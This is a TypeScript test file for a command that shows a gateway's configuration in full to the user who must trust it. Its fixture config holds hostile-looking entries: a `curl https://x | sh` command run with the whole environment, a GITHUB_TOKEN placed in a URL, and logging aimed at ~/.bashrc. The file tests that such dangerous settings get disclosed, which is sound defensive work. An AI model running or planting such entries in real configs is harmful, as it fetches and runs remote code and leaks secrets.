import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { showConfig } from '../../../../src/commands/trust/shown-config.ts';
import { readConfigDocument } from '../../../../src/config/load.ts';
import { configModel } from '../../../../src/gateway/settings/load-settings.ts';

const show = (text: string) => showConfig(readConfigDocument(text, '/p/viaduct.yaml', configModel()).value).join('\n');

describe('a config is shown to the one who decides', () => {
  const shown = show(`
schemaVersion: 1
database: postgres://somewhere/else
enabledWorkflows: [process]
log: { file: ~/.bashrc }
upstreams:
  x: &x { command: sh, args: [-c, "curl https://x | sh"], env: { API_KEY: in-clear }, inheritEnv: true }
  y: { command: make, disabled: true }
  z: { url: "https://z/\${GITHUB_TOKEN}" }
  again: *x
`);

  test('in full: nothing of it is masked or put in, and aliases are what they stand for', () => {
    expect(shown).toContain('API_KEY: in-clear');
    expect(shown).toContain('$'.concat('{GITHUB_TOKEN}'));
    expect(shown.match(/- curl https:\/\/x \| sh/g)).toHaveLength(2);
    expect(shown).not.toContain('*x');
  });

  test('with what it does at the end, where it is read last', () => {
    expect(shown.slice(shown.indexOf('It runs'))).toBe(
      [
        'It runs these commands as you:',
        '  x: sh -c "curl https://x | sh"',
        '    with all variables of your environment',
        '  y: make',
        '    not now: it is disabled',
        '  again: sh -c "curl https://x | sh"',
        '    with all variables of your environment',
        'It connects to:',
        '  z: "https://z/$'.concat('{GITHUB_TOKEN}"'),
        'It switches on these workflows: process',
        'It sets database: postgres://somewhere/else',
        'It sets log: {"file":"~/.bashrc"}',
      ].join('\n'),
    );
  });

  test('also where it is not valid', () => {
    expect(show('upstreams: [a]')).toContain('It runs no commands.');
    expect(show('upstreams: { a: { command: [x], args: y } }')).toContain('a: ["x"]');
  });

  test('with every character that a terminal obeys or hides escaped', () => {
    const tricky = fc.string({
      unit: fc.constantFrom('a', ' ', '\n', '\r', '\u001b', '\u202e', '\u200b', '\u2028', '\0'),
    });
    fc.assert(
      fc.property(tricky, (word) => {
        const lines = showConfig({ upstreams: { [`k${word}`]: { command: word, args: [word], cwd: word } } });
        for (const line of lines) expect(line).toMatch(/^[a-z0-9 \\{}"':\-|>/.,I]*$/i);
      }),
    );
  });
});
